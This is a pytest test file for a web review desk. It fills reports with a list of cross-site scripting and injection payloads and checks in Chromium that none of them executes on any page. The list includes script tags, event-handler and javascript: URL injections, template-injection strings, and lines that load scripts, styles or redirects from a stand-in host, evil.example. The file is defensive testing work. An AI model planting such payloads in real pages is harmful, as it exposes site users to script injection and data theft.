"""200 hostile reports on every page of the desk, in a real Chromium: nothing of them runs."""

from __future__ import annotations

from collections.abc import Iterator
from datetime import date, timedelta
from itertools import islice
from pathlib import Path
from urllib.parse import quote

import pytest
from tests.web.books import ticking
from tests.web.conftest import Served, serve

from pledgebook.book import Ledger
from pledgebook.model import (
    Decision,
    Evidence,
    Passage,
    PassageKind,
    Pledge,
    Position,
    Reading,
    Reason,
    Report,
    RowKind,
    Tally,
    Verdict,
)
from pledgebook.web.settings import Settings

RUNS = (
    "<script>alert(1)</script>",
    "</script><script src=http://evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>",
    '"><body onload=alert(1)>',
    "' onmouseover='alert(1)' autofocus onfocus='alert(1)' x='",
    "javascript:alert(1)//",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<style>@import 'http://evil.example/a.css'; body{display:none}</style>",
    "<link rel=stylesheet href=http://evil.example/a.css><base href=http://evil.example/>",
    "<form action=http://evil.example><input name=csrf></form>"
    "<meta http-equiv=refresh content=0;url=http://evil.example>",
    "{{ 7*7 }}{% raw %}${alert(1)}#{alert(1)}<%= alert(1) %>",
    "<div hx-get=http://evil.example hx-trigger=load hx-on:load=alert(1)>x</div>",
    "--><!--<![CDATA[<math><mi xlink:href=javascript:alert(1)>]]>",
    "<object data=javascript:alert(1)></object><embed src=http://evil.example>",
    "\u202e\u2066right to left\u2069 \u200f\u200b\ufeff",
    "\x00\x01\x02\x1b[31m\r\n\x7f\x85\u2028\u2029",
    "W" * 5000,
    "\U0001f4a3" * 300 + "e" + "\u0301" * 500,
    "&lt;script&gt;alert(1)&lt;/script&gt;&#60;script&#62;alert(1)&#60;/script&#62;",
)
PLACES = ("text", "title", "publisher", "source", "speaker", "actor", "reason", "last", "reader", "quote")
EACH = len(RUNS)
"""So many reports have each payload in each place, once; the further ones have them in other company."""


_TOO_WIDE = "document.documentElement.scrollWidth - document.documentElement.clientWidth"


def hostile() -> Iterator[tuple[Report, Reading]]:
    """200 reports with a payload in every place."""
    for number in range(EACH * len(PLACES)):
        lap = number // EACH + 1
        here = {place: RUNS[(number + lap * at) % EACH] for at, place in enumerate(PLACES)}
        text = f"{here['text']}\nFrance will send jets to Ukraine {here['quote']} it said.\n{here['last']}\n"
        start = text.index("France")
        evidence = Evidence.of(text, start, text.index(" it said.", start) + 9)
        reasons = (Reason("status", here["reason"], start, start + 6, text[start : start + 6]),)
        report = Report(
            f"h{number}", text, title=here["title"], publisher=here["publisher"], source=here["source"],
            published=date(2025, 9, 1) + timedelta(days=number % 7), language="en",
            passages=(Passage(0, len(text), PassageKind.BODY, "paragraph"),),
        )  # fmt: skip
        actor = f"OTHER:{here['actor'].replace(chr(0), '')}"
        speaker = here["speaker"]
        pledge = Pledge(
            actor, None, "UKR", "air_forces", "pledged", ("ceasefire",), None, speaker, evidence, reasons,
            confidence=number / 200,
        )  # fmt: skip
        reading = Reading(
            report.id, f"reader {here['reader']}", (pledge,),
            (Tally(26, 35, "participants", speaker, evidence),),
            (Position(actor, "opposes", "ground_troops", speaker, evidence),),
        )  # fmt: skip
        yield report, reading


@pytest.fixture(scope="module")
def hostile_book(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("hostile") / "hostile.db"
    clock = ticking()
    with Ledger.open(path, create=True) as ledger:
        ledger.add_all(hostile(), clock)
        rows = list(islice(ledger.rows(), len(RUNS)))
        for row, run in zip(rows, RUNS, strict=True):
            ledger.decide(Decision(Verdict.REJECT, f"x{run}"[:300], f"x{run}", row=row.id), clock)
    return path


@pytest.fixture(scope="module")
def served(hostile_book: Path) -> Iterator[Served]:
    """A desk on the hostile book."""
    yield from serve(Settings(hostile_book, clock=ticking()))


def test_nothing_of_a_report_runs_on_any_page(visit, served, hostile_book):
    page = visit.page
    page.context.grant_permissions([])
    with Ledger.open(hostile_book) as ledger:
        rows = list(ledger.rows())
    page.goto("/review")
    page.locator("input[name=name]:focus").wait_for()
    page.keyboard.type("<script>alert(1)</script> & \" '")
    with page.expect_navigation():
        page.keyboard.press("Enter")
    first = {f"h{number}" for number in range(EACH)}  # every payload in every place
    addresses = []
    for row in rows:
        if row.kind is RowKind.PLEDGE and row.report.report in first:
            code = quote(row.pledge.guarantor, safe="")
            addresses += [f"/row/{row.id}", f"/row/{row.id}/why"]
            if int(row.report.report[1:]) % 2:  # ten reports have every payload
                addresses += [f"/review?row={row.id}"]
            else:
                addresses += [
                    f"/country/{code}?of=UKR",
                    f"/cell?of=UKR&guarantor={code}&contribution=air_forces",
                ]
    addresses += [
        "/overview?of=UKR",
        "/tallies?of=UKR",
        "/conflicts?of=UKR",
        "/changes?of=UKR",
        "/scenario?of=UKR",
    ]
    addresses += [
        "/review/decisions",
        "/review/agreement",
        "/add",
        "/search?q=jets",
        f"/search?q={quote(RUNS[0])}",
    ]
    for address in addresses:
        answer = page.goto(address)
        assert answer.status in (200, 404, 422), (address, answer.status)
        assert answer.status == 200 or "/country/" in address or "/cell" in address, address
        assert page.url.startswith(served.url), address
        if answer.status != 200:  # a code with line feeds or of 5,000 letters; Chromium tells it as an error
            visit.errors = [told for told in visit.errors if f"status of {answer.status}" not in told]
        assert not visit.errors, (address, visit.errors)
        assert not visit.elsewhere, (address, visit.elsewhere)


def test_nothing_runs_on_the_page_of_any_of_them(visit, served):
    for number in range(EACH * len(PLACES)):
        address = f"/report/h{number}"
        answer = visit.page.goto(address)
        assert answer.status == 200 and visit.page.url == f"{served.url}{address}", address
        assert not visit.errors, (address, visit.errors)
        assert not visit.elsewhere, (address, visit.elsewhere)
        body = answer.text()
        assert not [run for run in RUNS if run.startswith(("<", "'", '"')) and run in body], address
        assert visit.page.evaluate(_TOO_WIDE) <= 0, (address, "the page is wider than the window")
